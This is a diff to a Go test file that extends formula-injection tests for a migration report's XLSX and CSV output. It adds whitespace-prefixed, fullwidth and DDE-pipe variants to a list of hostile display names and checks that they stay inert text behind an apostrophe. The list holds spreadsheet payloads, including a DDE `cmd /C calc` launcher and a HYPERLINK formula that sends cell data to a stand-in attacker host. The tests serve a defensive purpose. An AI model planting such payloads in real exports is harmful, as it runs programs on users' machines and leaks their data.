@@ -14,7 +14,8 @@ import (
 
 // hostileNames are display names an attacker who can name a principal
 // could choose: formulas, DDE, and the signs and control characters that
-// start one.
+// start one — also behind leading white space, in their fullwidth forms,
+// and a bare DDE pipe (OWASP, "CSV Injection").
 var hostileNames = []string{
 	`=cmd|' /C calc'!A0`,
 	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
@@ -24,7 +25,23 @@ var hostileNames = []string{
 	`-1`,
 	"\t=1",
 	"\r=1",
+	" =1+1",
+	"   +SUM(1)",
+	"\n=1",
+	"\u00a0=1",      // no-break space
+	"\u3000@SUM(1)", // ideographic space
+	"＝1+1",          // fullwidth equals
+	"＋1",
+	"－1",
+	"＠SUM(1)",
+	`|cmd /C calc`,
+	` |cmd /C calc`,
+	`｜cmd`,
+	"\t|x",
 }
+
+// harmlessNames are left as they are.
+var harmlessNames = []string{"Alice Adams", "Zoë-Ann (it's fine)", "Sales | EMEA", "1-2", " Bob", "a=b"}
 
 // TestFormulaInjection writes hostile display names through the migration
 // report and checks they stay inert text in both formats: in the XLSX a
@@ -32,7 +49,11 @@ var hostileNames = []string{
 // value behind a leading apostrophe. Harmless names are left alone.
 func TestFormulaInjection(t *testing.T) {
 	var items []testItem
-	for i, name := range append(append([]string{}, hostileNames...), "Alice Adams", "Zoë-Ann (it's fine)") {
+	hostile := map[string]bool{}
+	for _, name := range hostileNames {
+		hostile[name] = true
+	}
+	for i, name := range append(append([]string{}, hostileNames...), harmlessNames...) {
 		ti := demoItems[0]
 		ti.principal = fmt.Sprintf("a11ce000-0000-4000-8000-%012x", 0x100+i)
 		ti.name = name
@@ -72,8 +93,8 @@ func TestFormulaInjection(t *testing.T) {
 		if got != wantText || formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
 			t.Errorf("%s: value %q type %v formula %q; want the text %q, a string cell, no formula", cell, got, typ, formula, wantText)
 		}
-		if quoted != risky(wantText) {
-			t.Errorf("%s (%q): quotePrefix %v", cell, wantText, quoted)
+		if quoted != hostile[wantText] {
+			t.Errorf("%s (%q): quotePrefix %v, want %v", cell, wantText, quoted, hostile[wantText])
 		}
 	}
 	for r := 2; r <= len(rows); r++ {
@@ -126,7 +147,7 @@ func TestFormulaInjection(t *testing.T) {
 	for _, rec := range recs[1:] {
 		name := want[rec[0]]
 		wantField := name
-		if risky(name) {
+		if hostile[name] {
 			wantField = "'" + name
 		}
 		if rec[1] != wantField {
@@ -142,8 +163,9 @@ func TestFormulaInjection(t *testing.T) {
 
 func TestRisky(t *testing.T) {
 	for s, want := range map[string]bool{
-		"=1": true, "+1": true, "-1": true, "@x": true, "\t=1": true, "\r=1": true,
-		"": false, "a=1": false, " =1": false, "'=1": false, "Ünïcode": false, "1-2": false, "\n=1": false,
+		"=1": true, "+1": true, "-1": true, "@x": true, "\t=1": true, "\r=1": true, "|x": true,
+		" =1": true, "\n=1": true, " \t -1": true, "\u00a0@x": true, "＝1": true, "＋1": true, "－1": true, "＠x": true, "｜x": true,
+		"": false, "a=1": false, "'=1": false, "Ünïcode": false, "1-2": false, " ": false, " a": false, "a|b": false,
 	} {
 		if risky(s) != want {
 			t.Errorf("risky(%q) = %v, want %v", s, !want, want)
